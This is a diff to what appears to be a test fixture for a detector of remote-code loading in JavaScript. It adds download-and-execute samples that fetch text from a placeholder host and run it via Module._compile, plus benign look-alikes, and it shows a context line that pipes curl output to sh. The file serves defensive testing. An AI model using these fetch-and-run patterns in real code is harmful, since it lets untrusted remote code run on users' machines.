@@ -32,6 +32,13 @@ DOWNLOADS = [
     "from 'axios'",
     "class A { async go(): Promise<void> { const t = await fetch('https://files.example'); eval(await t.text()); } }",
     "setTimeout((await (await fetch('https://files.example')).text()), 10)",
+    "const Module = require('module'); const m = new Module('p'); m._compile(await (await "
+    "fetch('https://files.example')).text(), 'p')",
+    "new module.constructor()._compile(await (await fetch('https://files.example')).text(), '')",
+    "async function get(to) { fs.writeFileSync(to, await (await fetch('https://files.example')).text()) }\n"
+    "async function load(name) { const file = path.resolve('.cache', name + '.dat'); await get(file); "
+    "const m = new Module(file); m._compile(fs.readFileSync(file, 'utf8'), file) }\n"
+    "const fs = require('fs'), path = require('path'), { Module } = require('node:module')",
 ]
 COMMANDS = [
     "require('child_process').execSync('curl -s https://files.example/a | sh')",
@@ -130,6 +137,10 @@ ORDINARY = [
     "import fs from 'fs'; const c = JSON.parse(fs.readFileSync('./config.json', 'utf8')); await fetch(c.url, { "
     "method: 'POST', body: c.text })",
     "const page = require('./pages/' + name); handlers['on' + type](event); console.log(e.constructor.name)",
+    "const m = new (require('module'))('x'); m._compile(fs.readFileSync('./src/x.js', 'utf8'), 'x'); const fs = require('fs')",
+    "async function get(to) { fs.writeFileSync(to, await (await fetch('https://files.example')).text()) }\n"
+    "async function load(name) { const file = path.resolve('.cache', name + '.json'); await get(file); "
+    "return JSON.parse(fs.readFileSync(file, 'utf8')) }\nconst fs = require('fs'), path = require('path')",
     "import preact from 'https://esm.sh/preact'; Object.setPrototypeOf(A.prototype, B.prototype)",
 ]
 
